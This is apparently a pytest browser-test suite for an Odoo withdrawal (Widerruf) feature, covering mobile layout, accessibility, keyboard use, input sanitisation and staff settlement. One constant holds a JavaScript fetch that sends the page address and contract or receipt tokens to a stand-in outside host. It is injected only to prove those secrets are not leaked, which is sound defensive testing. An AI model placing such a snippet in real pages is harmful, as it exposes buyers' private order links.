# Copyright 2026 Trusted Shops for Odoo contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""A buyer with a phone, no scripts and the mail of the order withdraws.

Then staff settle it.
"""

import re

import pytest
from lxml import html
from queue_process import SEND_MAILS
from story import (
    DESK,
    DESKTOP,
    address_of,
    clean,
    mails_to,
    make_user,
    see_accessible,
)
from test_withdrawal_crashes import WORK

from wsts.administrator import Administrator

PHONE = {"width": 320, "height": 640}
LINK = ".o_withdrawal_link a"
BADGE = "[data-tb-element='trustbadge_minimised_container']"
BAR = "#website_cookies_bar .modal.show .modal-content"
# As a theme and a live chat would.
FLOAT = """document.body.insertAdjacentHTML("beforeend", `
    <style>.floats {position: fixed; bottom: 16px; width: 56px; height: 56px}</style>
    <a class="floats" style="left: 16px; z-index: 1030">Up</a>
    <a class="floats" style="right: 16px; z-index: 2000">Chat</a>
`)"""
# Moves to the link and tells whether its middle can be clicked.
IS_FREE = """(link, how) => {
    window.scrollTo(0, how === "end" ? document.documentElement.scrollHeight : 0);
    if (how === "focus") {
        link.focus();
    }
    const {left, right, top, bottom} = link.getBoundingClientRect();
    const middle = [(left + right) / 2, (top + bottom) / 2];
    return link.contains(document.elementFromPoint(...middle));
}"""
# What is wider than a narrow window when a reader doubles the size of the text.
FIND_WIDE = """() => {
    document.documentElement.style.fontSize = "200%";
    const ours = document.querySelectorAll("#wrap *, .o_withdrawal_link *");
    const wide = [...ours].filter(
        (each) => each.getBoundingClientRect().right > window.innerWidth + 1
    );
    document.documentElement.style.fontSize = "";
    return wide.map((each) => each.outerHTML);
}"""
# What scripts of others do, some as soon as they can.
TELL_ADDRESS = """fetch("https://theirs.example/tell?" + new URLSearchParams(
    {
        address: location.href,
        came_from: document.referrer,
        named: document.head.innerHTML.match(/(contract=|receipt\\/)[\\w-]{8,}/),
    }
), {mode: "no-cors"})"""
EMAIL = "phone@kunde.example"
SELL = """
website = env["website"].search([], order="id", limit=1)
partner = env["res.partner"].create(
    {{"name": "Erika Mustermann", "email": {email!r}, "lang": "de_DE"}}
)
product = env["product.product"].create({{"name": "Lamp", "type": "service"}})
order = env["sale.order"].create(
    {{
        "partner_id": partner.id, "website_id": website.id,
        "company_id": website.company_id.id,
        "order_line": [(0, 0, {{"product_id": product.id, "product_uom_qty": 3}})],
    }}
)
order.action_confirm()
order._send_order_confirmation_mail()
result = order.name
"""


@pytest.fixture
def sold(queue):
    """Return the number of an order whose buyer got its mail."""
    name = queue.do(SELL.format(email=EMAIL))
    queue.do(SEND_MAILS)
    return name


def read_link(shop, sold):
    """Return the address that the mail of the order leads to."""
    [mail] = mails_to(shop, EMAIL, sold)
    [address] = re.findall(r'href="([^"]*/withdrawal\?[^"]*)"', mail["html"])
    assert "Vertrag widerrufen" in mail["html"]
    return address.replace("&amp;", "&")


def see_plain_address(visitor, selector):
    """Wait for a part of a page that has a secret, which its address must not show."""
    visitor.page.locator(selector).wait_for()
    visitor.wait_until_usable()
    assert visitor.page.url == f"{visitor.url}/withdrawal"


def get_overflow(page):
    return page.evaluate(
        "() => document.documentElement.scrollWidth - window.innerWidth"
    )


def test_the_link_is_seen_on_a_phone_without_opening_anything(new_visitor):
    visitor = new_visitor(viewport=PHONE)
    visitor.put_into_cart(DESK)
    for path in ("/", "/shop", "/shop/cart", "/shop/checkout"):
        visitor.page.goto(visitor.url + path)
        link = visitor.page.locator(LINK)
        assert link.inner_text() == "Vertrag widerrufen", path
        link.scroll_into_view_if_needed()
        box = link.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"], path


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_nothing_that_floats_covers_the_link(new_visitor, change, width):
    change("website", cookies_bar=True)
    visitor = new_visitor(viewport={"width": width, "height": 640})
    visitor.reach_payment(DESK, address_of("link@kunde.example"))
    page, link = visitor.page, visitor.page.locator(LINK)
    # The order button sticks to the lower end of a phone.
    for path in ("/shop/payment", "/"):
        visitor.open(path)
        page.locator(BAR).wait_for()
        page.evaluate(FLOAT)
        for how in ("end", "focus"):
            assert link.evaluate(IS_FREE, how), (path, how)
    page.click("#cookies-consent-all")
    page.locator(BAR).wait_for(state="hidden")
    page.locator(BADGE).wait_for()
    for how in ("end", "focus"):
        assert link.evaluate(IS_FREE, how), how
    margin = "(link) => getComputedStyle(link.parentElement).marginBottom"
    assert link.evaluate(margin) == "0px"


def see_readable(page):
    """Check the part of the page that is ours."""
    see_accessible(page, "#wrap")
    assert page.evaluate(FIND_WIDE) == []


def test_link_steps_and_receipt_are_accessible(new_visitor):
    visitor = new_visitor(viewport=PHONE)
    page = visitor.page
    page.goto(f"{visitor.url}/withdrawal")
    see_accessible(page, ".o_withdrawal_link")
    see_readable(page)
    page.fill("#buyer_name", "Erika Mustermann")
    page.fill("#email", "steps@kunde.example")
    page.click(".o_withdrawal_form button")
    page.locator("#order_reference_error").wait_for()
    see_readable(page)
    page.fill("#order_reference", "S0815")
    page.click(".o_withdrawal_form button")
    see_accessible(page, ".o_withdrawal_confirm")
    see_readable(page)
    page.click(".o_withdrawal_confirm button")
    page.locator("#wrap [role='status']").wait_for()
    see_readable(page)
    page.go_back()
    page.locator(".o_withdrawal_confirm").wait_for()
    assert visitor.errors == []


def test_a_buyer_who_has_only_the_mail_withdraws_by_keyboard(
    shop, queue, new_visitor, sold
):
    page = new_visitor(viewport=PHONE, java_script_enabled=False).page
    page.goto(read_link(shop, sold))
    assert page.locator("#buyer_name").input_value() == "Erika Mustermann"
    assert page.locator("#email").input_value() == EMAIL
    assert get_overflow(page) <= 0
    quantity = page.locator("[name^='quantity_']")
    quantity.focus()
    page.keyboard.press("Control+A")
    page.keyboard.type("2")
    page.keyboard.press("Enter")
    button = page.locator(".o_withdrawal_confirm button")
    assert button.inner_text() == "Widerruf bestätigen"
    assert "2 × Lamp" in page.locator("#wrap").inner_text()
    button.focus()
    page.keyboard.press("Enter")
    page.locator("[role='status']").wait_for()
    text = page.locator("#wrap").inner_text()
    assert sold in text and "Europe/Berlin" in text
    assert get_overflow(page) <= 0
    # Back from there is no error, and pressing again declares nothing more.
    page.go_back()
    page.click(".o_withdrawal_confirm button")
    page.locator("[role='status']").wait_for()
    assert page.locator("#wrap").inner_text() == text
    page.goto(read_link(shop, sold))
    assert page.locator(".o_withdrawal_standing li").count() == 1
    queue.do(WORK)
    queue.do(SEND_MAILS)
    mails = mails_to(shop, EMAIL, "Widerruf erhalten")
    [receipt] = [mail["html"] for mail in mails if sold in mail["html"]]
    assert "2 × Lamp" in receipt


def test_a_stranger_mails_exactly_what_the_second_step_shows(shop, queue, new_visitor):
    page = new_visitor(viewport=PHONE).page
    page.goto(f"{shop.url}/withdrawal")
    assert page.locator("#remark").count() == 0
    page.fill("#buyer_name", "Gewinnen Sie auf https://spam.example")
    page.fill("#order_reference", "www.spam.example")
    page.fill("#details", "Lampe <b>&nbsp;x</b>\n\n\U0001f4a9.la  " + "y" * 450)
    page.fill("#email", "Fremd.Stranger@kunde.example")
    page.click(".o_withdrawal_form button")
    notice = page.locator(".o_withdrawal_changed").inner_text()
    assert notice.startswith("Wir haben Ihre Angaben gekürzt oder Webadressen")
    assert get_overflow(page) <= 0
    shown = page.locator("dl.o_withdrawal_declaration dd").all_text_contents()
    assert shown == [
        "Gewinnen Sie auf spam. example",
        "www. spam. example",
        "Lampe <b>&nbsp;x</b>\n\U0001f4a9. la " + "y" * 450,
        "fremd.stranger@kunde.example",
    ]
    page.click(".o_withdrawal_confirm button")
    page.locator("#wrap [role='status']").wait_for()
    queue.do(WORK)
    queue.do(SEND_MAILS)
    [mail] = mails_to(shop, "fremd.stranger@kunde.example", "Widerruf erhalten")
    receipt = html.fromstring(mail["html"])
    assert [row.text_content() for row in receipt.iter("dd")] == shown
    assert clean(receipt.text_content()).startswith(
        "Dies wurde in unser Formular eingegeben."
    )
    assert not receipt.xpath("//a")


def test_scripts_of_others_do_not_learn_the_secret_of_an_address(
    shop, new_visitor, sold, change
):
    at_once = f"<script>{TELL_ADDRESS}</script>"
    change("website", google_analytics_key="G-1", custom_code_head=at_once)
    visitor = new_visitor()
    page, told = visitor.page, []
    page.route(
        re.compile(rf"^(?!{re.escape(visitor.url)}/)"),
        lambda route: (told.append(route.request), route.fulfill(body=TELL_ADDRESS)),
    )
    page.goto(read_link(shop, sold))
    see_plain_address(visitor, ".o_withdrawal_articles")
    page.reload()
    see_plain_address(visitor, ".o_withdrawal_articles")
    page.click(".o_withdrawal_form button")
    page.click(".o_withdrawal_confirm button")
    see_plain_address(visitor, "#wrap [role='status']")
    page.reload()
    see_plain_address(visitor, "#wrap [role='status']")
    # What it holds may be gone by then: the first step comes, and only once.
    page.evaluate("history.replaceState({secret: '/withdrawal/receipt/gone-1234'}, '')")
    page.reload()
    see_plain_address(visitor, ".o_withdrawal_form")
    said = "\n".join(
        f"{request.url} {request.post_data} {request.headers}" for request in told
    )
    assert "googletagmanager" in said and "theirs.example" in said
    assert re.findall("contract|receipt", said) == []
    assert visitor.errors == []


def test_staff_record_a_call_and_settle_it(shop, queue, logged_in, chromium, sold):
    [[company]] = queue.query(
        f"SELECT company_id FROM sale_order WHERE name = '{sold}'"
    )
    login = make_user(
        logged_in,
        "base.group_user",
        "sales_team.group_sale_salesman_all_leads",
        login="calls@shop.example",
        odoobot_state="disabled",  # its chat would cover buttons
        company_id=int(company),
        company_ids=[[6, 0, [int(company)]]],
    )
    context = chromium.new_context(locale="en-US", viewport=DESKTOP)
    staff = Administrator(context.new_page(), shop.url).log_in(login, login)
    page = staff.page
    staff.open("/odoo/action-sale.action_orders")
    page.locator(".o_searchview_input").fill(sold)
    page.keyboard.press("Enter")
    page.locator(".o_data_row", has_text=sold).locator("td[name='name']").click()
    page.click("button[name='action_record_withdrawal']:visible")
    staff.choose("channel", "Telephone")
    page.locator("[name='note'] textarea").fill("The lamp is too bright")
    page.click("button[name='action_record']")
    page.locator("button[name='action_mark_valid']").wait_for()
    assert staff.read("order_reference") == sold
    queue.do(WORK)
    queue.do(SEND_MAILS)
    mails = mails_to(shop, EMAIL, "Widerruf erhalten")
    [receipt] = [mail["html"] for mail in mails if sold in mail["html"]]
    assert "The lamp is too bright" in receipt
    assert login not in receipt
    staff.press("action_mark_valid")
    staff.press("action_settle")
    page.locator("button[name='action_settle']").wait_for(state="hidden")
    [[state]] = queue.query(
        f"SELECT state FROM sale_withdrawal WHERE order_reference = '{sold}'"
    )
    assert state == "settled"
    assert (staff.popups, staff.errors) == ([], [])
    context.close()
